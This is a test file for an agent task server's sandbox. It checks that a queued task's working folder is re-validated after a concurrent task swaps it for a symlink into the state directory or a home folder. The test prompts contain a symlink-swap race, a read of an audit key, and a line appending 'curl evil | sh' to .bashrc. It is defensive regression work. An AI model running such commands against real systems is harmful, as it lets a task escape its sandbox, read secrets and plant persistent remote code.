import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { textOf } from '../support/harness.js';
import { viewOf } from '../support/views.js';
import { useRepoServer } from './repo-server.js';

// resolveRun (resolve.ts, cwd.ts pathBounds/resolveCwd) checks a task's cwd once, when it is submitted: its real
// path, inside the roots, not in the state dir. A queued task keeps that path (request.cwd) and runs in it when a slot
// frees, unchecked (leaseWorkdir returns req.cwd). A task running meanwhile replaces a folder on that path with a
// link into the state dir: the queued task then runs in the state dir, and its sandbox scope (ownDir = its cwd, whose
// real path IS the state dir) hides nothing of it ("A task whose own folder is the state dir itself": hiddenRules).
const ctx = useRepoServer(
  { 'sub/README': 'a folder of the project\n', 'sub2/README': 'another\n' },
  { env: { CLAUDE_TIERS_MAX_RUNNING: '1' } },
);

describe("a queued task's cwd swapped for a link into the state dir", () => {
  it('is checked again before the task runs (never runs in the state dir)', async () => {
    const { server, repo } = ctx;
    const state = server.stateDir;
    // The running task (the only slot): it waits for the other to be queued, then swaps sub for a link. It runs
    // sandboxed in its own cwd (isolation "none"), where it may write.
    const swap = `echo x; sleep 3; rm -rf sub && ln -s ${state} sub; echo swapped=$?`;
    const a = await server.client.callTool({
      name: 'deep_task',
      arguments: { prompt: `[[bash:${swap}]]`, cwd: repo, tier: 'sandboxed', isolation: 'none', wait_s: 0 },
    });
    expect(a.isError, textOf(a)).toBeFalsy();
    // Submitted while sub is a folder of the project: accepted, queued behind the first.
    const look = 'pwd -P; ls; wc -c < audit.key; echo key=$?';
    const b = await server.client.callTool({
      name: 'deep_task',
      arguments: {
        prompt: `[[bash:${look}]]`,
        cwd: join(repo, 'sub'),
        tier: 'sandboxed',
        isolation: 'none',
        wait_s: 0,
      },
    });
    expect(b.isError, textOf(b)).toBeFalsy();
    const va = await ctx.final(viewOf(a).task_id);
    const vb = await ctx.final(viewOf(b).task_id);
    console.log(JSON.stringify({ a: [va.state, va.last_text], b: [vb.state, vb.end, vb.last_text] }));
    expect(va.last_text).toMatch(/swapped=0/);
    // The queued task must not have run in the state dir.
    // Refused (the cwd lies in the state dir now), or at least not run there: here it lists the state dir and reads
    // the audit key (key=0).
    expect(vb.last_text ?? '').not.toContain(state);
    expect(vb.last_text ?? '').not.toMatch(/key=0/);
  }, 400_000);

  it('is checked again before the task runs (never writes outside the roots, e.g. the home folder)', async () => {
    const { server, repo } = ctx;
    // A folder outside the roots, as the user's home: the sandbox lets a task write its own cwd.
    const home = mkdtempSync(join(tmpdir(), 'ct-home-'));
    writeFileSync(join(home, '.bashrc'), "# the user's\n");
    const swap = `echo x; sleep 3; rm -rf sub2 && ln -s ${home} sub2; echo swapped=$?`;
    const a = await server.client.callTool({
      name: 'deep_task',
      arguments: { prompt: `[[bash:${swap}]]`, cwd: repo, tier: 'sandboxed', isolation: 'none', wait_s: 0 },
    });
    expect(a.isError, textOf(a)).toBeFalsy();
    const write = "echo 'curl evil | sh' >> .bashrc; echo wrote=$?";
    const b = await server.client.callTool({
      name: 'deep_task',
      arguments: {
        prompt: `[[bash:${write}]]`,
        cwd: join(repo, 'sub2'),
        tier: 'sandboxed',
        isolation: 'none',
        wait_s: 0,
      },
    });
    expect(b.isError, textOf(b)).toBeFalsy();
    const va = await ctx.final(viewOf(a).task_id);
    const vb = await ctx.final(viewOf(b).task_id);
    const bashrc = readFileSync(join(home, '.bashrc'), 'utf8');
    console.log(JSON.stringify({ a: [va.state, va.last_text], b: [vb.state, vb.last_text], bashrc }));
    expect(va.last_text).toMatch(/swapped=0/);
    expect(bashrc).not.toContain('curl evil');
  }, 400_000);
});
